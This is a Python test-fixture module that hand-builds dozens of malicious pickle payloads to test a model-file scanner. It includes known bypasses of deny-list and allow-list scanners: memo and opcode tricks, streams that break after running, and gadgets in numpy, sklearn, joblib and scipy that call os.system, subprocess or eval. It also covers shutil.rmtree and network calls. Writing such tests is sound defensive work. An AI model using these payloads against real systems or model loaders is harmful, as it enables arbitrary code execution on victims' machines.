"""Malicious pickles for the tests: every trick creates a file when a stock unpickler opens it.

Each payload is `build(sentinel, folder) -> bytes`. Hand-assembled, because most of them cannot come out of
`pickle.dumps`. The tricks are those reported against deny-list scanners (modelscan #85, #263, #267, #269, #330,
#331, #338; picklescan #13, #14, #22, #66 and its advisories) and a few against allow-lists.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Build = Callable[[Path, Path], bytes]

PROTO4 = b"\x80\x04"
STOP = b"."


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def push(value: Any) -> bytes:
    """Opcodes that put a constant on the stack; bytes given as `Raw` are opcodes already."""
    if isinstance(value, Raw):
        return value
    if isinstance(value, str):
        return text(value)
    return (
        pickle.dumps(value, 4)[2:-1]
        if not isinstance(value, bytes)
        else b"B" + struct.pack("<I", len(value)) + value
    )


class Raw(bytes):
    """Opcodes that leave one value on the stack."""


def name(module: str, attribute: str) -> Raw:
    return Raw(text(module) + text(attribute) + b"\x93")


def call(function: Raw, *arguments: Any) -> Raw:
    return Raw(function + b"(" + b"".join(push(argument) for argument in arguments) + b"tR")


def program(*values: bytes) -> bytes:
    """The values one after the other; all but the last are popped."""
    return PROTO4 + b"0".join(values) + STOP


def touch(sentinel: Path) -> str:
    return f"touch {sentinel}"


def code(sentinel: Path) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


def system(sentinel: Path) -> Raw:
    return call(name("os", "system"), touch(sentinel))


def one(module: str, attribute: str, *arguments: Any) -> Build:
    """A single call; TOUCH, CODE, ARGV and PATH stand for what creates the sentinel."""

    def build(sentinel: Path, _: Path) -> bytes:
        real = {
            "TOUCH": touch(sentinel),
            "CODE": code(sentinel),
            "ARGV": ["touch", str(sentinel)],
            "PATH": str(sentinel),
            "BYTES_ARGV": [b"touch", str(sentinel).encode()],
            "NESTED": program(system(sentinel)),
        }
        return program(
            call(name(module, attribute), *(real.get(a, a) if isinstance(a, str) else a for a in arguments))
        )

    return build


def with_file(module: str, attribute: str, suffix: str, *more: Any) -> Build:
    """A call that opens a second, malicious file."""

    def build(sentinel: Path, folder: Path) -> bytes:
        second = folder / f"second{suffix}"
        content = program(system(sentinel))
        if suffix == ".py":
            content = code(sentinel).encode()
        if suffix == ".npy":
            header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
            header += b" " * (117 - len(header)) + b"\n"
            content = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content
        second.write_bytes(content)
        return program(call(name(module, attribute), str(second), *more))

    return build


def plain(make: Callable[[Path], bytes]) -> Build:
    return lambda sentinel, _: make(sentinel)


def _memo_confusion(sentinel: Path) -> bytes:
    """picklescan #14: PUT and MEMOIZE mixed, so that counting MEMOIZEs finds harmless strings."""
    stream = PROTO4 + text("os") + b"q\x00" + text("system") + b"q\x01"
    stream += text("numpy") + b"q\x05" + text("float64") + b"q\x06" + b"0000"
    return stream + b"h\x00h\x01\x93" + text(touch(sentinel)) + b"\x85R."


def _strings_from_afar(sentinel: Path) -> bytes:
    """The names come through LONG_BINPUT, DUP and POP, with harmless strings pushed in between."""
    stream = (
        PROTO4 + text("system") + b"r\x00\x01\x00\x00" + text("os") + b"2" + b"r\x01\x01\x00\x00" + b"000"
    )
    stream += text("sklearn") + b"0" + b"j\x01\x01\x00\x00" + text("base") + b"0" + b"j\x00\x01\x00\x00\x93"
    return stream + text(touch(sentinel)) + b"\x85R."


def _get_by_text(sentinel: Path) -> bytes:
    """Protocol 0 GET and PUT, with STACK_GLOBAL in a stream that claims to be of protocol 2."""
    stream = b"\x80\x02Vos\np7\n0Vsystem\np8\n0g7\ng8\n\x93"
    return stream + b"(V" + touch(sentinel).encode() + b"\ntR."


def _join(sentinel: Path) -> bytes:
    """modelscan #331: the name is put together at run time by str.join, fetched with getattr."""
    module = call(name("importlib", "import_module"), "builtins")
    getattr_ = name("builtins", "getattr")
    joined = call(call(getattr_, call(getattr_, module, "str"), "join"), "", ["o", "s"])
    target = call(getattr_, call(name("importlib", "import_module"), joined), "system")
    return program(call(target, touch(sentinel)))


def _numpy_builtins(sentinel: Path) -> bytes:
    """modelscan #330: numpy's own __builtins__, reached as an attribute of numpy."""
    namespace = name("numpy", "__builtins__")
    return program(
        call(call(name("builtins", "getattr"), namespace, "get"), "eval")
        + b"("
        + text(code(sentinel))
        + b"tR"
    )


def _build_on_function(sentinel: Path) -> bytes:
    """modelscan #85: BUILD writes attributes onto a function, GLOBAL with dots reads them back as names."""
    stream = b"\x80\x05" + b"cnumpy\nmean\n"
    stream += b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b0"
    stream += b"cnumpy\nmean.a\n" + b"cnumpy\nmean.b\n" + b"\x93"
    return stream + b"(V" + touch(sentinel).encode() + b"\ntR."


def _inst(sentinel: Path) -> bytes:
    """picklescan #13: INST imports and calls in one opcode."""
    return b"(S'" + touch(sentinel).encode() + b"'\nios\nsystem\n."


def _obj(sentinel: Path) -> bytes:
    return b"(cos\nsystem\nS'" + touch(sentinel).encode() + b"'\no."


def _global_python2(sentinel: Path) -> bytes:
    return b"c__builtin__\neval\n(V__import__('os').system('" + touch(sentinel).encode() + b"')\ntR."


def _newobj(sentinel: Path) -> bytes:
    """NEWOBJ runs `cls.__new__`; a class's `__init__` is not needed to run code: Popen through REDUCE of type."""
    return program(
        call(
            call(name("builtins", "getattr"), name("subprocess", "Popen"), "__call__"),
            ["touch", str(sentinel)],
        )
    )


def _broken(sentinel: Path) -> bytes:
    """Runs, and only then breaks: many scanners give up at the error and report nothing."""
    return PROTO4 + system(sentinel) + b"\xff\xff\xff"


def _truncated(sentinel: Path) -> bytes:
    return PROTO4 + system(sentinel)


def _proto_in_the_middle(sentinel: Path) -> bytes:
    return PROTO4 + text("x") + b"0\x80\x02" + b"cos\nsystem\n" + text(touch(sentinel)) + b"\x85R."


def _second_pickle(sentinel: Path) -> bytes:
    """A harmless pickle first; `pickle.load` twice, or a reader that takes the last, opens the second."""
    return pickle.dumps({"weights": [1, 2, 3]}, 4) + program(system(sentinel))


def _function_type(sentinel: Path) -> bytes:
    made = call(name("marshal", "loads"), marshal.dumps(compile(code(sentinel), "x", "exec")))
    return program(
        call(
            call(name("types", "FunctionType"), made, Raw(b"}")),
        )
    )


def _map(sentinel: Path) -> bytes:
    return program(
        call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), [touch(sentinel)]))
    )


def _partial(sentinel: Path) -> bytes:
    return program(call(call(name("functools", "partial"), name("os", "system"), touch(sentinel))))


def _methodcaller(sentinel: Path) -> bytes:
    caller = call(name("operator", "methodcaller"), "system", touch(sentinel))
    return program(call(caller, call(name("importlib", "import_module"), "os")))


def _attrgetter(sentinel: Path) -> bytes:
    getter = call(name("operator", "attrgetter"), "system")
    return program(call(call(getter, call(name("builtins", "__import__"), "os")), touch(sentinel)))


def _resolve_name(sentinel: Path) -> bytes:
    return program(call(call(name("pkgutil", "resolve_name"), "os:system"), touch(sentinel)))


def _interpreter(sentinel: Path) -> bytes:
    made = call(name("code", "InteractiveInterpreter"))
    return program(call(name("code", "InteractiveInterpreter.runcode"), made, code(sentinel)))


def _bdb(sentinel: Path) -> bytes:
    return program(call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), code(sentinel)))


def _trace(sentinel: Path) -> bytes:
    return program(call(name("trace", "Trace.run"), call(name("trace", "Trace"), 0, 0), code(sentinel)))


def _grammar(sentinel: Path) -> bytes:
    made = call(name("lib2to3.pgen2.grammar", "Grammar"))
    return program(call(name("lib2to3.pgen2.grammar", "Grammar.loads"), made, program(system(sentinel))))


def _defaultdict_factory(sentinel: Path) -> bytes:
    """No call to see: the factory runs when a missing key is asked for, here by another pickle trick."""
    made = call(
        name("collections", "defaultdict"),
        call(name("functools", "partial"), name("os", "system"), touch(sentinel)),
    )
    return program(call(call(name("builtins", "getattr"), made, "__missing__"), "x"))


def _extension(_: Path) -> bytes:
    """EXT1 calls whatever copyreg's registry holds."""
    return PROTO4 + b"\x82\x01" + b")R."


def _persistent(sentinel: Path) -> bytes:
    return PROTO4 + text(str(sentinel)) + b"Q."


def _scipy_distribution(sentinel: Path) -> bytes:
    """scipy's distributions exec() a template kept in their state when they are unpickled."""
    state = {"_parse_arg_template": code(sentinel), "_ctor_param": {}, "moment_type": 0}
    made = Raw(name("scipy.stats._continuous_distns", "norm_gen") + b")\x81")
    return PROTO4 + made + push(state) + b"b."


def _sys_modules(sentinel: Path) -> bytes:
    """Replaces a module in sys.modules by BUILD, so that a harmless name means something else."""
    stream = PROTO4 + name("sys", "modules") + b"(" + text("math") + name("sys", "modules")
    stream += b"u0" + system(sentinel)
    return stream + STOP


def _through_sklearn(dotted: str) -> Build:
    """An allowed package's module, and from there with dots to what it imports."""
    module, _, path = dotted.partition(":")
    return lambda sentinel, _: program(call(name(module, path), touch(sentinel)))


def _cloudpickle(sentinel: Path) -> bytes:
    made = call(name("marshal", "loads"), marshal.dumps(compile(code(sentinel), "x", "exec")))
    module = "joblib.externals.cloudpickle.cloudpickle"
    return program(call(call(name(module, "_make_function"), made, Raw(b"}"), None, None, None)))


def _import_only(sentinel: Path, folder: Path) -> bytes:
    """Importing is enough: the module body runs. Nothing is called."""
    (folder / "fairway_side_effect.py").write_text(code(sentinel))
    return program(name("fairway_side_effect", "anything"))


def _reconstructor(sentinel: Path) -> bytes:
    """An allowed function that calls a class of the attacker's choice."""
    made = call(
        name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), None
    )
    return program(Raw(made), call(name("subprocess", "Popen"), ["touch", str(sentinel)]))


def _random_state(sentinel: Path) -> bytes:
    """numpy's RandomState constructor calls its second argument with its first."""
    return program(
        call(name("numpy.random._pickle", "__randomstate_ctor"), touch(sentinel), name("os", "system"))
    )


def _inside_joblib(sentinel: Path) -> bytes:
    """joblib writes arrays of objects as a second pickle between the opcodes of the first."""
    import joblib
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            import os

            return os.system, (touch(sentinel),)

    out = io.BytesIO()
    joblib.dump({"model": np.array([Evil(), 1], dtype=object)}, out)
    return out.getvalue()


PAYLOADS: dict[str, Build] = {
    "os.system": one("os", "system", "TOUCH"),
    "posix.system": one("posix", "system", "TOUCH"),
    "subprocess.Popen": one("subprocess", "Popen", "ARGV"),
    "subprocess.check_output": one("subprocess", "check_output", "ARGV"),
    "builtins.eval": one("builtins", "eval", "CODE"),
    "builtins.exec": one("builtins", "exec", "CODE"),
    "builtins.open": one("builtins", "open", "PATH", "w"),
    "_io.FileIO": one("_io", "FileIO", "PATH", "w"),
    "io.open": one("io", "open", "PATH", "w"),
    "logging.FileHandler": one("logging", "FileHandler", "PATH"),
    "distutils.file_util.write_file": one("distutils.file_util", "write_file", "PATH", ["x"]),
    "pty.spawn": one("pty", "spawn", "ARGV"),
    "timeit.timeit": one("timeit", "timeit", "CODE", "pass", Raw(name("time", "time")), 1),
    "cProfile.run": one("cProfile", "run", "CODE"),
    "profile.run": one("profile", "run", "CODE"),
    "bdb.Bdb.run": plain(_bdb),
    "trace.Trace.run": plain(_trace),
    "code.InteractiveInterpreter": plain(_interpreter),
    "multiprocessing.util.spawnv_passfds": one(
        "multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", "BYTES_ARGV", ()
    ),
    "pydoc.pipepager": one("pydoc", "pipepager", "x", "TOUCH"),
    "uuid._get_command_stdout": one("uuid", "_get_command_stdout", "touch", "PATH"),
    "imaplib.IMAP4_stream": one("imaplib", "IMAP4_stream", "TOUCH"),
    "_osx_support._read_output": one("_osx_support", "_read_output", "TOUCH"),
    "runpy.run_path": with_file("runpy", "run_path", ".py"),
    "pickle.loads": one("pickle", "loads", "NESTED"),
    "_pickle.loads": one("_pickle", "loads", "NESTED"),
    "pandas.read_pickle": with_file("pandas", "read_pickle", ".pkl"),
    "joblib.load": with_file("joblib", "load", ".joblib"),
    "joblib.numpy_pickle.load": with_file("joblib.numpy_pickle", "load", ".joblib"),
    "numpy.load": with_file("numpy", "load", ".npy", None, True),
    "numpy runstring": one("numpy.testing._private.utils", "runstring", "CODE", {}),
    "numpy getlincoef": one("numpy.f2py.crackfortran", "getlincoef", "CODE", []),
    "pkgutil.resolve_name": plain(_resolve_name),
    "functools.partial": plain(_partial),
    "operator.methodcaller": plain(_methodcaller),
    "operator.attrgetter": plain(_attrgetter),
    "builtins.map": plain(_map),
    "types.FunctionType": plain(_function_type),
    "defaultdict factory": plain(_defaultdict_factory),
    "getattr and str.join": plain(_join),
    "getattr on a class": plain(_newobj),
    "numpy.__builtins__": plain(_numpy_builtins),
    "BUILD on a function": plain(_build_on_function),
    "INST": plain(_inst),
    "OBJ": plain(_obj),
    "GLOBAL of Python 2": plain(_global_python2),
    "memo confusion": plain(_memo_confusion),
    "names through LONG_BINPUT, DUP, POP": plain(_strings_from_afar),
    "names through text GET": plain(_get_by_text),
    "runs before it breaks": plain(_broken),
    "runs before it ends early": plain(_truncated),
    "PROTO in the middle": plain(_proto_in_the_middle),
    "sys.modules": plain(_sys_modules),
    "sklearn:os.system": _through_sklearn("sklearn.utils._testing:os.system"),
    "numpy.f2py:os.system": _through_sklearn("numpy.f2py:os.system"),
    "joblib:os.system": _through_sklearn("joblib.numpy_pickle:os.system"),
    "importing is enough": _import_only,
    "an allowed function calls a class": plain(_reconstructor),
    "an allowed function calls its argument": plain(_random_state),
    "scipy's exec in a state": plain(_scipy_distribution),
    "inside joblib's array of objects": plain(_inside_joblib),
}
"""Tricks that work: the tests prove it with a stock unpickler."""

SILENT: dict[str, Build] = {
    "cloudpickle in joblib": plain(_cloudpickle),
    "_aix_support._read_cmd_output": one("_aix_support", "_read_cmd_output", "TOUCH"),
    "a second pickle behind the first": plain(_second_pickle),
    "EXT1": plain(_extension),
    "BINPERSID": plain(_persistent),
    "torch.utils.collect_env.run": one("torch.utils.collect_env", "run", "TOUCH"),
    "torch.load": with_file("torch.serialization", "load", ".pt"),
    "mlflow _run_entry_point": one("mlflow.projects.backend.local", "_run_entry_point", "TOUCH", ".", "", ""),
    "nt.system": one("nt", "system", "TOUCH"),
    "commands.getoutput": one("commands", "getoutput", "TOUCH"),
    "pip.main": one("pip", "main", ["download", "x"]),
    "pip._internal": one("pip._internal", "main", ["download", "x"]),
    "ssl.get_server_certificate": one("ssl", "get_server_certificate", ("example.invalid", 443)),
    "urllib.request.urlopen": one("urllib.request", "urlopen", "http://example.invalid"),
    "pandas.read_csv": one("pandas.io.parsers.readers", "read_csv", "http://example.invalid"),
    "pandas.eval": one("pandas", "eval", "1 + 1"),
    "webbrowser.open": one("webbrowser", "open", "http://example.invalid"),
    "idlelib.run.Executive.runcode": one("idlelib.run", "Executive.runcode", None, "CODE"),
    "ctypes.CDLL": one("ctypes", "CDLL", "libc.so.6"),
    "logging.config.listen": one("logging.config", "listen", 9999),
    "asyncio subprocess": one("asyncio.unix_events", "_UnixSubprocessTransport._start", None, "ARGV", True),
    "antigravity": plain(lambda _: program(name("antigravity", "geohash"))),
    "doctest.debug_script": one("doctest", "debug_script", "CODE"),
    "ensurepip._run_pip": one("ensurepip", "_run_pip", ["--version"]),
    "venv.create": one("venv", "create", "PATH"),
    "joblib.Memory": one("joblib.memory", "Memory", "PATH"),
    "tempfile.mkdtemp": one("tempfile", "mkdtemp"),
    "shutil.rmtree": one("shutil", "rmtree", "PATH"),
    "sklearn's own test helpers": one(
        "sklearn.utils._testing", "assert_run_python_script_without_output", "CODE"
    ),
    "sklearn.datasets": one("sklearn.datasets._base", "load_files", "PATH"),
    "numpy.fromfile": one("numpy", "fromfile", "PATH"),
    "numpy.ctypeslib": one("numpy.ctypeslib", "load_library", "libc", "."),
}
"""Tricks for other packages, other systems or other readers: refused all the same."""

# Python 3.13 has no lib2to3 any more.
(PAYLOADS if sys.version_info < (3, 13) else SILENT)["lib2to3 Grammar.loads"] = plain(_grammar)
